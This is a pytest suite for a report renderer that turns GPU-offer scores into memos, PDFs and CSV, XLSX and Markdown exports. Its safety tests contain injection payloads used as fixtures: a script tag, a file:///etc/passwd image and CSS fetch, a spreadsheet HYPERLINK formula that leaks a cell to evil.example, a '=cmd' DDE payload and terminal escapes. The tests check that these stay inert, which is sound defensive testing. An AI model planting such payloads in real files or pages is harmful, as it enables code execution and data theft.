"""The leadership memo, the full report and the exports (issue 7).

Read as the specification: the memo answers first and fits two pages; every vendor is named
and every flagged clause quoted with its location; hostile vendor strings stay inert in
HTML, PDF, CSV, XLSX and Markdown; the same report gives the same bytes.

The sample is the real `score` JSON of the bundled offers (scripts/make_fixtures.py writes it;
tests/test_fixtures.py keeps it current), so expected figures are read from the sample itself
and formatted as the product formats them: a legitimate change to the pipeline needs a new
fixture, not new literals here. A situation the samples do not produce (an input that could
not be read, an unverified gate) is built explicitly from the sample.
"""

from __future__ import annotations

import copy
import csv
import html as htmllib
import io
import json
import re
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from evaltool.api import normalize_files
from evaltool.errors import RenderError, UsageError
from evaltool.models import ScoreReport
from evaltool.report import fmt
from evaltool.report.exports import neutralise, to_csv, to_markdown, to_xlsx_bytes
from evaltool.report.names import offer_title
from evaltool.report.progress import progress_enabled, track
from evaltool.report.render import render_html, render_report, report_to_json, terminal_table
from evaltool.report.view import build_view

FIXTURE = Path(__file__).resolve().parent / "fixtures" / "score_report_sample.json"

HOSTILE_VENDOR = '<script>alert("x")</script> Evil GPU'
HOSTILE_OFFER = "<img src=file:///etc/passwd> cluster"
HOSTILE_FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
HOSTILE_AT = "@SUM(1)"
HOSTILE_CSS = 'Bad</style><style>html{background:url("file:///etc/passwd")}</style>Co'


# --------------------------------------------------------------------------- fixtures


def sample_data() -> dict[str, Any]:
    return json.loads(FIXTURE.read_text(encoding="utf-8"))


def sample() -> ScoreReport:
    return ScoreReport.model_validate(sample_data())


def offer_of(data: dict[str, Any], offer_id: str) -> dict[str, Any]:
    found: dict[str, Any] = next(o for o in data["offers"] if o["id"] == offer_id)
    return found


def winner(data: dict[str, Any]) -> dict[str, Any]:
    """The recommended offer of the sample, as the scorer named it."""
    return offer_of(data, data["recommendation"]["offer_id"])


def runner_up(data: dict[str, Any]) -> dict[str, Any]:
    return offer_of(data, data["recommendation"]["runner_up_id"])


def ranked(data: dict[str, Any]) -> list[dict[str, Any]]:
    """Eligible offers first, each group by rank: the order every table lists them in."""
    return sorted(data["offers"], key=lambda o: (not o["eligible"], o["rank"]))


def text_of(html: str) -> str:
    """The HTML with entities decoded, to find vendor sentences as a reader sees them."""
    return htmllib.unescape(html)


@pytest.fixture(scope="module")
def unreadable(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Any]:
    """An input the pipeline cannot evaluate, as the reader reports it (the bundled samples
    are all readable): a legacy quote with an unknown accelerator and "call us" for a price."""
    folder = tmp_path_factory.mktemp("inputs")
    path = folder / "legacy-quote-a800.yaml"
    path.write_text("vendor: Legacy Compute\noffer_name: A800 quote\naccelerator: A800\n"
                    "price_usd_per_gpu_hour: call us\n", encoding="utf-8")
    result = normalize_files(path)
    assert not result.offers and len(result.not_evaluated) == 1
    entry = result.not_evaluated[0].model_dump(mode="json")
    # named as the fixture names its inputs: relative to the checkout
    moved: dict[str, Any] = json.loads(
        json.dumps(entry).replace(str(folder) + "/", "offers/"))
    return moved


def with_not_evaluated(entry: dict[str, Any]) -> dict[str, Any]:
    data = sample_data()
    data["not_evaluated"].append(copy.deepcopy(entry))
    return data


def error_texts(entry: dict[str, Any]) -> list[str]:
    return [str(e.get("text") or e.get("message")) for e in entry["errors"]]


def scaled(n: int, long_names: bool = False) -> ScoreReport:
    """The sample with `n` offers: the six originals, then eligible copies under new names."""
    data = sample_data()
    originals = data["offers"]
    offers = []
    for i in range(n):
        offer = copy.deepcopy(originals[i % len(originals)])
        if i >= len(originals):
            offer["id"] = f"{offer['id']}-{i}"
            offer["vendor"] = f"Vendor {i:02d} {offer['vendor']}"
            offer["eligible"] = True
            offer["gates"] = [g | {"status": "pass"} for g in offer["gates"]]
        if long_names:
            offer["vendor"] = (
                f"{offer['vendor']} International Accelerated Computing Holdings "
                f"and Sovereign Cloud Services Group {i:02d}"
            )
            offer["offer_name"] = (
                f"{offer['offer_name']}, reserved capacity with premium support, "
                "dedicated fabric and managed parallel storage, multi-year commitment"
            )
        offer["score"] = round(offer["score"] - i * 0.01, 2)
        offers.append(offer)
    offers.sort(key=lambda o: (not o["eligible"], -o["score"]))
    for rank, offer in enumerate(offers, 1):
        offer["rank"] = rank
    data["offers"] = offers
    return ScoreReport.model_validate(data)


def hostile() -> ScoreReport:
    data = sample_data()
    first, second, third = data["offers"][0], data["offers"][1], data["offers"][2]
    first["vendor"], first["offer_name"] = HOSTILE_VENDOR, HOSTILE_OFFER
    second["vendor"], second["offer_name"] = HOSTILE_FORMULA, HOSTILE_AT
    third["vendor"] = HOSTILE_CSS
    second["flags"][0]["quote"] = "=cmd|' /C calc'!A0 and <b>bold</b> \x1b[31mred"
    data["recommendation"]["headline"] = f"Recommend {HOSTILE_VENDOR}."
    return ScoreReport.model_validate(data)


def compact(text: str) -> str:
    """Text without whitespace: PDF extraction breaks lines anywhere."""
    return re.sub(r"\s+", "", text)


# --------------------------------------------------------------------------- numbers


@pytest.mark.parametrize(
    ("value", "expected"),
    [(12_400_000, "$12.4M"), (1_320_076.4, "$1.32M"), (980_000, "$980k"),
     (2.5e9, "$2.50B"), (512, "$512"), (None, "—"), (float("nan"), "—"), (-1.5e6, "−$1.50M")],
)
def test_money_reads_like_a_cfo_memo(value: Any, expected: str) -> None:
    assert fmt.usd(value) == expected


def test_units_are_human() -> None:
    assert fmt.days(38.2) == "38 days"
    assert fmt.days(3.5) == "3.5 days"
    assert fmt.days(1) == "1 day"
    assert fmt.usd_per_gpu_hour(2.35) == "$2.35/GPU-h"
    assert fmt.pct(0.41) == "41%"
    assert fmt.pct(None) == "—"
    assert fmt.field_label("storage_read_gbyte_s") == "Storage read (GB/s)"
    assert fmt.field_label("hw_replacement_hours") == "Hardware replacement (hours)"


@given(st.floats(min_value=0, max_value=1e13))
def test_money_is_always_short(value: float) -> None:
    assert len(fmt.usd(value)) <= 8


@given(st.text())
def test_neutralised_text_never_starts_a_formula(text: str) -> None:
    assert not neutralise(text).startswith(("=", "+", "-", "@", "\t", "\r"))


# --------------------------------------------------------------------------- memo (HTML)


def test_memo_leads_with_the_answer_and_how_sure_it_is() -> None:
    data = sample_data()
    rec, best, second = data["recommendation"], winner(data), runner_up(data)
    body = text_of(render_html(sample()))
    body = body[body.index("<body>"):]
    headline = body.index('class="headline"')
    assert headline < body.index("Ranking of eligible offers")
    # the answer names the recommended vendor before anything else is said
    assert best["vendor"] in body[headline:body.index("</", headline + 20)]
    # how sure: the share of plausible weightings it wins, and its lead over the runner-up
    assert f"wins in {fmt.pct(rec['win_probability'])} of plausible weightings" in body.lower()
    assert f"{fmt.points(rec['margin_points'])} ahead of {second['vendor']}" in body
    # the winner's figures, for humans
    est = best["estimates"]
    for text in (fmt.usd(est["total_cost_usd"]), fmt.days(est["time_to_train_days"]),
                 fmt.price(est["effective_usd_per_gpu_hour"]), fmt.pct(est["mfu"])):
        assert text in body, text


def test_memo_sections_come_in_the_order_leadership_reads_them() -> None:
    html = render_html(sample())
    order = ["Ranking of eligible offers", "Excluded offers and why",
             "Contract and lock-in red flags", "What would change the decision",
             "What this rests on"]
    positions = [html.index(f">{title}<") for title in order]
    assert positions == sorted(positions)


def test_memo_explains_exclusions_and_inputs_not_evaluated(unreadable: dict[str, Any]) -> None:
    data = with_not_evaluated(unreadable)
    # an eligible offer whose gate could not be checked stays ranked, but is called out
    second = runner_up(data)
    gate = second["gates"][-1]
    gate["status"] = "unverified"
    body = text_of(render_html(ScoreReport.model_validate(data)))
    excluded = [o for o in data["offers"] if not o["eligible"]]
    assert excluded, "the sample has offers that fail a knock-out gate"
    for o in excluded:
        assert o["vendor"] in body
        for failed in (g for g in o["gates"] if g["status"] == "fail"):
            assert failed["why"][:80] in body, failed["why"]
    # an input that could not be read is named, with why
    assert unreadable["source"]["file"] in body
    for text in error_texts(unreadable):
        assert fmt.clean_text(text)[:80] in body, text
    assert f"{fmt.label(gate['gate'])} unverified — {gate['why'][:60]}" in body


def test_memo_quotes_red_flags_with_their_location() -> None:
    data = sample_data()
    # a firm commitment is good news, not a red flag, however it is graded
    firm = "Provider shall deliver the contracted capacity no later than 2027-02-01."
    winner(data)["flags"].append({
        "code": "firm-commitment", "kind": "firm_commitment", "severity": "high",
        "quote": firm, "where": {"file": "offers/x.xlsx", "sheet": "Terms", "cell": "B2"},
        "why": "a dated delivery commitment with a remedy", "ask_for": None})
    body = text_of(render_html(ScoreReport.model_validate(data)))
    quoted = 0
    for o in data["offers"]:
        worst = next((f for f in o["flags"] if f["severity"] == "high" and f["quote"]
                      and f["kind"] not in ("firm_commitment", "remedy")), None)
        if worst is None:
            continue
        quoted += 1
        assert fmt.clean_text(worst["quote"])[:100] in body, worst["quote"]
        assert fmt.where(worst["where"]) in body  # file › sheet › cell, where to find it
    assert quoted >= 2, "the sample quotes high-severity clauses of several vendors"
    assert firm not in body
    for o in data["offers"]:  # plain remedies are not red flags either
        for f in o["flags"]:
            if f["kind"] == "remedy" and f["quote"]:
                assert fmt.clean_text(f["quote"])[:100] not in body, f["quote"]


def test_memo_keeps_the_winners_red_flags_when_it_must_cut() -> None:
    data = sample_data()
    best = winner(data)
    best["flags"] = [f for f in best["flags"] if f["kind"] != "commitment_exceeds_run"]
    best["flags"].append({
        "kind": "commitment_exceeds_run", "severity": "medium", "quote": None,
        "where": {"file": best["source"]["file"], "sheet": "Pricing", "cell": "B4"},
        "why": "signing commits $99.9M over a 12-month term; this run uses $1.5M of it",
        "ask_for": None,
    })
    # at the tightest level the memo holds far fewer flags than the sample has
    view = build_view(ScoreReport.model_validate(data), kind="memo", level=3)
    assert view.red_flags_more > 0
    mine = [f for f in view.red_flags if f.offer_id == best["id"]]
    assert mine and mine[0].vendor == best["vendor"]
    assert any(f.why.startswith("signing commits") for f in mine)


def test_memo_states_what_it_rests_on() -> None:
    data = sample_data()
    body = text_of(render_html(sample()))
    rubric, given = data["rubric"], data["assumptions"]
    n_files = len(given["inputs"]["offers"])
    for text in (given["as_of"], f"{rubric['name']} v{rubric['version']}",
                 data["workload"]["name"],
                 f"{n_files} offer file{'s' if n_files != 1 else ''}, 1 workload file; "
                 f"{len(data['offers'])} offers evaluated",
                 f"seed {given['seed']}", f"evaltool {data['evaltool_version']}"):
        assert text in body, text


def test_what_would_change_is_plain_english_break_evens() -> None:
    data = sample_data()
    # the scorer's own sentences, with sums rounded as everywhere in the memo
    detail = data["sensitivity"]["what_would_change_detail"]
    assert detail, "the sample run says what would change its answer"
    section = text_of(render_html(sample()))
    section = section[section.index(">What would change the decision<"):]
    for item in detail[:3]:
        assert fmt.tidy_money(item["text"]) in section, item["text"]
    # without them, the memo words the break-evens itself
    second = runner_up(data)
    criterion = data["rubric"]["criteria"][0]
    data["sensitivity"] = {
        "price_cut_to_win": [{"offer_id": second["id"], "price_cut_pct": 7.3,
                              "price_usd_per_gpu_hour_at_tie": 2.31}],
        "weight_break_evens": [{"criterion": criterion["id"], "weight_now": 0.04,
                                "weight_at_tie": 0.16, "new_winner": second["id"]}],
    }
    body = text_of(render_html(ScoreReport.model_validate(data)))
    assert f"{second['vendor']} would win if its price dropped by 7.3% (to $2.31/GPU-h)." in body
    assert (f"{second['vendor']} would win if the weight of {criterion['title']} rose from 4% "
            "to 16%") in body


def test_memo_survives_a_report_without_sensitivity_or_estimates() -> None:
    data = sample_data()
    data["sensitivity"] = {}
    data["recommendation"] = {}
    for offer in data["offers"]:
        offer["estimates"] = {"mfu": None}
    report = ScoreReport.model_validate(data)
    html = text_of(render_html(report))
    best = min((o for o in report.offers if o.eligible), key=lambda o: o.rank)
    assert f"Recommend {offer_title(best)}." in html  # the best eligible offer, by rank
    assert "—" in html
    assert "Traceback" not in html and "{'" not in html  # no raw dicts


def test_no_eligible_offer_says_so() -> None:
    data = sample_data()
    for offer in data["offers"]:
        offer["eligible"] = False
    html = render_html(ScoreReport.model_validate(data))
    assert "No offer can be recommended: none passes the knock-out gates." in html


def test_full_report_has_charts_tables_findings_and_appendix() -> None:
    data = sample_data()
    html = render_html(sample(), kind="full")
    for title in ("Cost against time to train", "Where each score comes from",
                  "How robust is the winning margin", "Rank acceptability",
                  "Scores by category", "Contract clauses and findings per vendor",
                  "Missing data and clarification questions", "Assumptions",
                  "Appendix A: where every value comes from", "Appendix B: the rubric used"):
        assert title in html, title
    assert html.count("<svg") == 4
    body = text_of(html)
    # the full report quotes every flagged clause, with where it is
    for o in data["offers"]:
        for f in o["flags"]:
            if f["quote"]:
                assert fmt.clean_text(f["quote"])[:100] in body, f["quote"]
                assert fmt.where(f["where"]) in body, f["where"]
    # the firmer wording to ask for, for every finding that has one
    asks = [f["ask_for"] for o in data["offers"] for f in o["flags"] if f["ask_for"]]
    assert asks
    for ask in asks:
        assert fmt.clean_text(ask)[:100] in body, ask
    # chart labels are real text
    assert re.search(rf"<text[^>]*>{re.escape(winner(data)['vendor'])}</text>", body)
    # every clarification question, to send the vendor as written
    questions = data["sensitivity"]["clarification_questions"]
    assert questions
    for q in questions:
        assert q["question"] in body, q["question"]


def test_page_size_reaches_the_stylesheet() -> None:
    assert "size: Letter;" in render_html(sample(), page_size="Letter")
    with pytest.raises(UsageError, match="page size"):
        render_html(sample(), page_size="A3")  # type: ignore[arg-type]


# --------------------------------------------------------------------------- safety


def test_hostile_vendor_strings_are_escaped_in_html() -> None:
    for kind in ("memo", "full"):
        html = render_html(hostile(), kind=kind)
        assert "<script" not in html
        assert "<img" not in html
        assert "</style><style>" not in html
        assert "&lt;script&gt;" in html
        assert "<b>bold</b>" not in html
        assert "\x1b" not in html


def test_hostile_strings_are_inert_in_csv() -> None:
    rows = list(csv.reader(io.StringIO(to_csv(hostile()))))
    cells = [cell for row in rows for cell in row]
    assert "'" + HOSTILE_FORMULA in cells
    assert "'" + HOSTILE_AT in cells
    for cell in cells:
        if cell and not re.fullmatch(r"-?\d+(\.\d+)?", cell):
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


def test_hostile_strings_are_inert_in_xlsx() -> None:
    from openpyxl import load_workbook

    wb = load_workbook(io.BytesIO(to_xlsx_bytes(hostile())))
    seen = set()
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    seen.add(cell.value)
                    assert not cell.value.startswith(("=", "+", "-", "@", "\t", "\r"))
    assert "'" + HOSTILE_FORMULA in seen and "'" + HOSTILE_AT in seen


def test_hostile_strings_are_inert_in_markdown() -> None:
    text = to_markdown(hostile(), kind="full")
    assert not re.search(r"(?<!\\)<", text)  # every "<" is backslash-escaped: no raw HTML
    assert "\\<script\\>" in text


def test_terminal_table_strips_escape_sequences_and_fits_100_columns() -> None:
    data = sample_data()
    data["offers"][0]["vendor"] = "\x1b[2J\x1b[31mEvil\x07 Vendor 超长名字的供应商"
    report = ScoreReport.model_validate(data)
    plain = terminal_table(report, color=False)
    assert "\x1b" not in plain and "\x07" not in plain
    from evaltool.report.terminal import display_width

    assert all(display_width(line) <= 100 for line in plain.splitlines())
    coloured = terminal_table(report, color=True)
    assert "\x1b[" in coloured
    assert "[2J" not in coloured


def test_terminal_table_lists_every_offer_best_first(unreadable: dict[str, Any]) -> None:
    data = with_not_evaluated(unreadable)
    text = terminal_table(ScoreReport.model_validate(data), color=False)
    lines = text.splitlines()
    assert lines[0].split()[:3] == ["#", "Vendor", "/"]
    rows = lines[2:2 + len(data["offers"])]
    # eligible offers by rank, then the excluded ones, each row starting with its rank
    for row, o in zip(rows, ranked(data), strict=True):
        assert row.split()[0] == str(o["rank"]) and o["vendor"].split()[0] in row, row
        assert ("yes" if o["eligible"] else "no") in row.split()
    est = winner(data)["estimates"]
    first = rows[0]
    for figure in (fmt.usd(est["total_cost_usd"]), fmt.price(est["effective_usd_per_gpu_hour"]),
                   fmt.pct(est["mfu"])):
        assert figure in first, figure
    assert compact(f"not evaluated: {unreadable['source']['file']}") in compact(text)


# --------------------------------------------------------------------------- exports


def test_json_is_deterministic_and_round_trips() -> None:
    report = sample()
    text = report_to_json(report)
    assert text == report_to_json(ScoreReport.model_validate_json(text))
    data = json.loads(text)
    assert list(data) == sorted(data)
    assert data["offers"][0]["id"] == data["recommendation"]["offer_id"]  # best first
    assert [o["rank"] for o in data["offers"]] == list(range(1, len(data["offers"]) + 1))


def test_csv_has_one_row_per_input_with_headers_in_words_and_units(
    unreadable: dict[str, Any],
) -> None:
    data = with_not_evaluated(unreadable)
    rows = list(csv.DictReader(io.StringIO(to_csv(ScoreReport.model_validate(data)))))
    assert len(rows) == len(data["offers"]) + 1  # every offer and the unreadable input
    first, best = rows[0], winner(data)
    assert first["Vendor"] == best["vendor"] and first["Status"] == "eligible"
    assert float(first["Run cost (USD)"]) == pytest.approx(best["estimates"]["total_cost_usd"])
    # the header's unit is percent: a fraction of 0.43 is written 43
    assert float(first["MFU (%)"]) == pytest.approx(100 * best["estimates"]["mfu"])
    last = rows[-1]
    assert last["Status"] == "not evaluated"
    for text in error_texts(unreadable):
        assert fmt.clean_text(text) in last["Why excluded or not evaluated"]


def test_xlsx_is_formatted_one_sheet_per_view() -> None:
    from openpyxl import load_workbook

    wb = load_workbook(io.BytesIO(to_xlsx_bytes(sample())))
    assert wb.sheetnames[:5] == ["Ranking", "Categories", "Criteria", "Flags", "Gates"]
    assert {"Sensitivity", "Not evaluated", "Assumptions", "Rubric"} <= set(wb.sheetnames)
    ws = wb["Ranking"]
    assert ws.freeze_panes == "A3"  # two header rows: words with units, then machine keys
    header = [c.value for c in ws[1]]
    keys = [c.value for c in ws[2]]
    assert "Run cost (USD)" in header and "total_cost_usd" in keys
    assert header.index("Run cost (USD)") == keys.index("total_cost_usd")
    cost = ws.cell(row=3, column=keys.index("total_cost_usd") + 1)
    run_cost = winner(sample_data())["estimates"]["total_cost_usd"]
    assert cost.value == pytest.approx(run_cost) and "$" in cost.number_format
    mfu = ws.cell(row=3, column=keys.index("mfu") + 1)
    assert mfu.number_format == "0.0%"


def test_xlsx_bytes_are_stable() -> None:
    import time

    first = to_xlsx_bytes(sample())
    time.sleep(1.1)  # openpyxl stamps the save time, to the second
    assert to_xlsx_bytes(sample()) == first


def test_render_report_picks_the_format_by_extension(tmp_path: Path) -> None:
    report = sample()
    for ext in (".html", ".md", ".csv", ".xlsx", ".json"):
        out = render_report(report, tmp_path / f"memo{ext}")
        assert out.stat().st_size > 0
    assert (tmp_path / "memo.json").read_text(encoding="utf-8") == report_to_json(report)
    assert (tmp_path / "memo.xlsx").read_bytes()[:2] == b"PK"
    with pytest.raises(UsageError, match=r"\.docx"):
        render_report(report, tmp_path / "memo.docx")
    with pytest.raises(UsageError, match="report kind"):
        render_report(report, tmp_path / "memo.html", kind="summary")  # type: ignore[arg-type]


def test_unwritable_output_is_a_clear_error(tmp_path: Path) -> None:
    blocker = tmp_path / "file"
    blocker.write_text("x")
    with pytest.raises(RenderError, match="could not write"):
        render_report(sample(), blocker / "memo.json")


def test_progress_stays_quiet_in_pipes() -> None:
    stream = io.StringIO()
    assert not progress_enabled(stream)
    assert list(track([1, 2, 3], "offers", stream=stream)) == [1, 2, 3]
    assert stream.getvalue() == ""


# --------------------------------------------------------------------------- PDF


def _pdf_text(data: bytes) -> tuple[int, str, Any]:
    from pypdf import PdfReader

    reader = PdfReader(io.BytesIO(data))
    text = "\n".join(page.extract_text() or "" for page in reader.pages)
    return len(reader.pages), text, reader


@pytest.fixture(scope="module")
def weasy() -> None:
    try:
        import weasyprint  # noqa: F401
    except OSError as exc:
        pytest.skip(f"Pango not installed: {exc}")


@pytest.fixture(scope="module")
def memo_pdf(weasy: None) -> bytes:
    from evaltool.report.pdf import render_pdf_bytes

    return render_pdf_bytes(sample())


def test_pdf_memo_fits_two_pages_and_names_every_vendor(memo_pdf: bytes) -> None:
    pages, text, reader = _pdf_text(memo_pdf)
    assert pages <= 2
    box = reader.pages[0].mediabox
    assert (round(float(box.width)), round(float(box.height))) == (595, 842)  # A4
    flat = compact(text)
    for offer in sample().offers:
        assert compact(offer.vendor) in flat, offer.vendor
    assert compact(f"Page 1 of {pages}") in flat
    assert reader.metadata.title == "GPU compute offer: recommendation"


def test_pdf_memo_quotes_the_worst_clauses_and_counts_the_rest(memo_pdf: bytes) -> None:
    """Two pages cannot hold every finding: the memo quotes the worst clause of the offers
    in contention, and says how many more red flags the full report holds."""
    data = sample_data()
    flat = compact(_pdf_text(memo_pdf)[1])
    quoted = 0
    for o in (winner(data), runner_up(data)):
        red = [f for f in o["flags"] if f["quote"] and f["severity"] in ("high", "medium")
               and f["kind"] not in ("firm_commitment", "remedy", "assumption",
                                     "assumed_value", "note")]
        red.sort(key=lambda f: f["severity"] != "high")  # worst first, then as the scorer lists
        if red:
            quoted += 1
            assert compact(red[0]["quote"][:60]) in flat, red[0]["quote"]
    assert quoted, "the sample's leading offers have quoted red flags"
    if build_view(sample()).red_flags_more:  # more than even the roomiest memo holds
        assert compact("more red flags (with the firmer wording to ask for) in the full "
                       "report") in flat


def test_pdf_bytes_are_stable_and_undated(memo_pdf: bytes) -> None:
    from evaltool.report.pdf import render_pdf_bytes

    assert render_pdf_bytes(sample()) == memo_pdf
    assert b"/CreationDate" not in memo_pdf and b"/ModDate" not in memo_pdf


@pytest.mark.parametrize(("n", "long_names"), [(3, False), (12, True)])
def test_pdf_memo_fits_two_pages_with_many_offers_and_long_names(
    weasy: None, n: int, long_names: bool
) -> None:
    from evaltool.report.pdf import render_pdf_bytes

    report = scaled(n, long_names=long_names)
    pages, text, _ = _pdf_text(render_pdf_bytes(report, page_size="Letter"))
    assert pages <= 2
    flat = compact(text)
    for offer in report.offers:
        # long names are cut with "…" in the memo: the distinctive start must be there
        assert compact(offer.vendor)[:30] in flat, offer.vendor


def test_pdf_with_hostile_strings_fetches_only_bundled_assets(
    weasy: None, monkeypatch: pytest.MonkeyPatch
) -> None:
    from evaltool.report import pdf

    fetched: list[str] = []
    original = pdf.bundled_only_fetcher

    def recording(weasyprint: Any, root: Path) -> Any:
        fetcher = original(weasyprint, root)
        inner = fetcher.fetch

        def fetch(url: str, headers: Any = None) -> Any:
            fetched.append(url)
            return inner(url, headers)

        fetcher.fetch = fetch
        return fetcher

    monkeypatch.setattr(pdf, "bundled_only_fetcher", recording)
    data = pdf.render_pdf_bytes(hostile(), kind="full")
    assert fetched and all("/fonts/" in url for url in fetched)
    assert b"/JavaScript" not in data and b"/URI" not in data
    flat = compact(_pdf_text(data)[1])
    assert compact("<script>alert(") in flat  # shown as text, inert


def test_fetcher_refuses_anything_but_bundled_assets(weasy: None) -> None:
    import weasyprint

    from evaltool.report._paths import templates_dir
    from evaltool.report.pdf import bundled_only_fetcher

    fetcher = bundled_only_fetcher(weasyprint, templates_dir())
    for url in ("file:///etc/passwd", "http://evil.example/x.css",
                (templates_dir() / ".." / "pyproject.toml").as_uri(), "data:text/css,x"):
        with pytest.raises(ValueError, match="refused"):
            fetcher.fetch(url)
    font = (templates_dir() / "fonts" / "DejaVuSans.ttf").as_uri()
    assert fetcher.fetch(font).read(4) == b"\x00\x01\x00\x00"


def test_full_pdf_renders_with_page_numbers(weasy: None, tmp_path: Path) -> None:
    out = render_report(sample(), tmp_path / "full.pdf", kind="full")
    pages, text, _ = _pdf_text(out.read_bytes())
    assert pages > 2
    assert compact(f"Page {pages} of {pages}") in compact(text)
